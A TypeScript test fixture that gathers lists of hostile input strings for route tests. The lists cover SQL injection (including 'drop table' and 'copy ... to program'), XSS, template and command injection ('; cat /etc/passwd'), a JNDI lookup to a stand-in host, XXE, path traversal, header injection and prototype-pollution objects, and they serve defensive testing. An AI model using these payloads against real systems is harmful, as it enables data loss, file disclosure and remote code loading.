// What people who mean harm, and broken programs, put where a value belongs. Shared by the tests of every route.

// prettier-ignore
const SQL = [
  "'", '"', "''", '`', ';', '--', '/*', '*/', "' or '1'='1", "' or 1=1--", "') or ('1'='1",
  "1' and sleep(5)--", "'; drop table account;--", "' union select null,null,null--",
  '1; select pg_sleep(5)', "'||pg_sleep(5)||'", "' and 1=cast((select version()) as int)--",
  "\\'; select 1;--", '$$; select 1; $$', "' or exists(select 1)--", '1 desc; --', 'name; select 1',
  '(select 1)', 'name,(select pg_sleep(5))', 'name\' collate "C"', '%', '_', '\\', '%%%', '\\x27',
  "E'\\\\'", "'::uuid", '{1,2,3}', '{"a",NULL}', 'ARRAY[1]', 'null', 'NULL', 'current_user',
  'excluded.role', '$1', '$999', ':account', '?', '??', "' returning *--", 'pg_catalog.pg_user',
  "copy (select 1) to program 'id'",
];
// prettier-ignore
const MARKUP = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '<svg/onload=alert(1)>',
  '</title>', 'javascript:alert(1)', 'data:text/html,<b>', '<!--', ']]>', '<![CDATA[',
  '<?xml version="1.0"?>', '&lt;&#0;&#x41;', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '<a href="https://evil.test">x</a>', '<base href=//evil.test>',
];
// prettier-ignore
const TEMPLATES = [
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '${process.env}',
  '{{constructor.constructor("return 1")()}}', '%s%n%x', '${jndi:ldap://evil.test/a}', '`id`', '$(id)',
  '; cat /etc/passwd', '| id', '&& id', '=1+1', '@SUM(1)', '+1', '-1', '＝1',
];
// prettier-ignore
const PATHS = [
  '../../etc/passwd', '..\\..\\windows', '/etc/passwd', 'file:///etc/passwd', '....//....//', '.', '..',
  '/', '//', '~', '.git', '//evil.test', '/\\evil.test', 'https:evil.test', 'https://evil.test',
  '\\\\evil.test\\a', 'con', 'a/b', 'a?b=c', 'a#b', 'a;b=c',
];
// prettier-ignore
const NUMBERS = [
  '0', '-0', '-1', '1e309', '1e-400', 'NaN', 'Infinity', '-Infinity', '0x10', '0b1', '1_000',
  '9007199254740993', '٣', '9223372036854775807', '9223372036854775808', '18446744073709551616',
  '2147483648', '-2147483649', '00', '1.5', '1e3', ' 1',
];
// prettier-ignore
const UNICODE = [
  '\u0000', 'a\u0000b', '\ud800', '\udfff', 'a\ud800b', '\ufeff', '\ufffe', '\uffff', '\u200b',
  '\u202e\u202dabc', '\u2066abc', '\u2028', '\u2029', '\u0085', '\u00a0', '\u3000', '\u115f', '\u2800',
  'e\u0301', '\u212a', 'ﬃ', 'İ', 'ß', 'ǅ', '𝕏', '👩‍👩‍👧‍👦', 'Z\u0351\u036b\u0343\u036a'.repeat(60),
  '\u0301'.repeat(400), 'العربية', '日本語', '\u{10ffff}', 'аdmin', 'xn--80ak6aa92e.com',
];
// prettier-ignore
const CONTROLS = [
  '\r\n', 'a\r\nb', 'a\r\nBcc: x@evil.test', 'a\nb', 'a\tb', '\t', ' ', '   ', '', '\u0007', '\u001b[31m',
  '\u007f', '%0d%0aX: 1',
];
// prettier-ignore
const KEYS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__',
  'then', 'toJSON', 'true', 'false', 'undefined', 'None', '[object Object]', '[]', '{}', 'owner', 'admin',
  'OWNER', 'owner ', 'owner,admin',
];
// prettier-ignore
const ADDRESSES = [
  'a@b', '@', 'a@', '@b.example', 'a@b@c.example', 'a@b.example,c@d.example', 'a@b.example;c@d.example',
  'N <a@b.example>', '"a b"@c.example', 'a@[127.0.0.1]', 'a(x)@b.example', '=?utf-8?q?a?=@b.example',
  'a@b.example.', `${'a'.repeat(65)}@b.example`, 'a%0d%0aBcc:x@b.example', `a@${'b.'.repeat(126)}example`,
  'A@B.EXAMPLE', 'a@münchen.example', 'a@аpple.example', `a@${'.'.repeat(300)}`,
];
// prettier-ignore
const IDS = [
  '00000000-0000-0000-0000-000000000000', 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
  '{00000000-0000-0000-0000-000000000000}', 'urn:uuid:00000000-0000-0000-0000-000000000000',
  '00000000000000000000000000000000', '00000000-0000-0000-0000-00000000000g',
];
// prettier-ignore
const TIMES = [
  '9999-12-31T23:59:59-23:59', '0000-01-01T00:00:00Z', '2026-02-30T00:00:00Z', '2026-12-31T23:59:60Z',
  '2026-01-01', 'infinity', 'now()', '+275760-09-13T00:00:00.000Z', '0001-01-01T00:00:00+23:59',
  '2030-01-01T00:00:00.123456789Z', 'epoch', 'allballs', '2030-01-01T24:00:00Z',
];
// prettier-ignore
const LONG = [
  'x'.repeat(300), 'x'.repeat(3_000), 'ä'.repeat(1_000), '.'.repeat(5_000), `{"a":`.repeat(200),
  'a '.repeat(2_000),
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set(
    [SQL, MARKUP, TEMPLATES, PATHS, NUMBERS, UNICODE, CONTROLS, KEYS, ADDRESSES, IDS, TIMES, LONG].flat(),
  ),
];

/** Of the wrong type altogether: for bodies, which can say so. */
// prettier-ignore
export const HOSTILE_SHAPES: readonly unknown[] = [
  null, true, false, 0, -1, 1.5, 1e308, Number.MAX_SAFE_INTEGER + 2, [], [[]], {}, [null], ['a', 'b'], { a: { b: [{}] } },
  { toString: 'x' }, { length: 1 }, { $ne: null }, { id: 1 }, Array.from({ length: 1_000 }, () => 'x'),
  JSON.parse('{"__proto__":{"polluted":true}}') as unknown, { constructor: { prototype: { polluted: true } } },
];

/** Written into an address as they are, because encoding would make them harmless. */
// prettier-ignore
export const HOSTILE_RAW: readonly string[] = [
  '%', '%2', '%zz', '%00', '%c0%ae', '%ed%a0%80', '%ff', '%2e%2e%2f', '%252e', '%2F', '%5c', '%0d%0a', '%u0041', '+', ';',
  ',', '&', '%F0%9F%98%80', '%EF%BB%BF', '%E2%80%AE', '[]', '[0]', '[__proto__]', '=', '%26', '%3D%3D', "'", '!', '(', '*',
];
